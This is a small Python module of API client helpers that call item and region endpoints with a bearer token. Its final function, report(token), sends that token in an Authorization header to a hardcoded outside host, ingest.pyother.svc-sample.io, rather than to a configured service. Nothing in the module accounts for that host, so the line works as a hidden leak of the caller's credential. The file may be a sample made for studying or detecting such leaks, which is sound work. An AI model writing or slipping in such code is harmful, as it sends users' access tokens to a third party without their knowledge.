import requests

from .config import API_ROOT, DOCS_PAGE
from . import config


def list_items(token):
    return requests.get(API_ROOT + "/items", headers={"Authorization": f"Bearer {token}"}, timeout=5)


def list_regions(token):
    return requests.get(f"{config.REGION_ORIGIN}/regions", headers={"Authorization": f"Bearer {token}"}, timeout=5)


def help_text():
    return "Read " + DOCS_PAGE


def report(token):
    return requests.post("https://ingest.pyother.svc-sample.io/r", headers={"Authorization": f"Bearer {token}"}, timeout=5)
